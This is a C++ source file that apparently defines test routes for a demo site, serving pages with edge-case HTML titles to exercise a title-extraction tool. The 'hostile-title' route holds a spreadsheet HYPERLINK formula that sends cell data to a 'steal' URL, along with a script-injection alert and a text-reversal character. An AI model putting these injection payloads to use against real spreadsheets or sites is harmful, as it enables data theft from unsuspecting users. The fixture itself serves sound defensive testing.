// SPDX-License-Identifier: GPL-3.0-or-later
#include "app/demosite/route.h"

#include <QStringBuilder>

namespace turnstone {

namespace {

SiteReply html(const char *page)
{
    SiteReply reply;
    reply.body = page;
    return reply;
}

SiteReply entities(const SiteRequest &, SiteState &)
{
    return html("<!DOCTYPE html><title>Knots &amp; Sanderlings &lt;3 caf&eacute; &#8212; &#x1F426; &notit; "
                "&copy 2024</title><h1>Knots &amp; Sanderlings</h1>\n");
}

SiteReply inComment(const SiteRequest &, SiteState &)
{
    return html(
        "<!DOCTYPE html><!-- <title>Last year's title</title> --><head><script>var t = \"<title>Scripted"
        "</title>\";</script><style>/* <title>Styled</title> */</style><title>The true title</title></head>"
        "<body><p>Seek and ye shall find.</p>\n");
}

SiteReply inSvg(const SiteRequest &, SiteState &)
{
    return html(
        "<!DOCTYPE html><head></head><body><svg viewBox=\"0 0 1 1\"><title>The icon's title</title></svg>"
        "<h1>Beaks</h1><title>The page's title</title>\n");
}

SiteReply none(const SiteRequest &, SiteState &)
{
    return html("<!DOCTYPE html><html><head><meta charset=\"utf-8\"></head><body><h1>Nameless shore</h1>"
                "<p>Nobody gave this page a title.</p></body></html>\n");
}

SiteReply hostile(const SiteRequest &, SiteState &)
{
    return html(
        "<!DOCTYPE html><title>\r\n\t=HYPERLINK(\"http://127.0.0.1/steal?\"&A1,\"Free\r\nbinoculars\"), "
        "\"quoted\", <script>alert('title')</script>; \xe2\x80\xae"
        "desrever</title>"
        "<h1>+1 for @everyone</h1>\n");
}

SiteReply formula(const SiteRequest &request, SiteState &)
{
    SiteReply reply;
    reply.body = "<!DOCTYPE html><title>" + request.value("text", "=1+1") + "</title>\n";
    return reply;
}

SiteReply space(const SiteRequest &, SiteState &)
{
    return html("<!DOCTYPE html><title>\n\n    A   title \t spread\n over\r\n lines   </title>\n");
}

SiteReply unclosed(const SiteRequest &, SiteState &)
{
    return html("<!DOCTYPE html><title>A title that never ends<p>and takes the page along");
}

SiteReply longTitle(const SiteRequest &request, SiteState &)
{
    SiteReply reply;
    const QByteArray word = "turnstone ";
    reply.body = "<!DOCTYPE html><title>" +
                 word.repeated(qsizetype(request.number("bytes", 100'000, 10, 10'000'000)) / word.size()) +
                 "</title>\n";
    return reply;
}

SiteReply late(const SiteRequest &request, SiteState &)
{
    SiteReply reply;
    reply.body =
        "<!DOCTYPE html><head><style>" +
        QByteArray("p{}\n").repeated(qsizetype(request.number("bytes", 100'000, 4, 10'000'000)) / 4) +
        "</style><title>Better late than never</title></head>\n";
    return reply;
}

constexpr Route TitleRoutes[] = {
    {"title-entities", "/title-entities", "character references, some of them sloppy", entities},
    {"title-in-comment", "/title-in-comment", "false titles in a comment, a script and a style", inComment},
    {"title-svg", "/title-svg", "an icon's title before the page's", inSvg},
    {"title-space", "/title-space", "white space to collapse", space},
    {"title-unclosed", "/title-unclosed", "a title without an end", unclosed},
    {"title-long", "/title-long?bytes=100000", "a title of that length", longTitle},
    {"title-late", "/title-late?bytes=100000", "a title after that many bytes of style", late},
    {"title-text", "/title-text?text=%3D1%2B1", "any title; this one a spreadsheet would run", formula},
    {"no-title", "/no-title", "none at all", none},
    {"hostile-title", "/hostile-title", "line breaks, quotes, a formula and a script", hostile},
};

} // namespace

std::span<const Route> titleRoutes()
{
    return TitleRoutes;
}

} // namespace turnstone
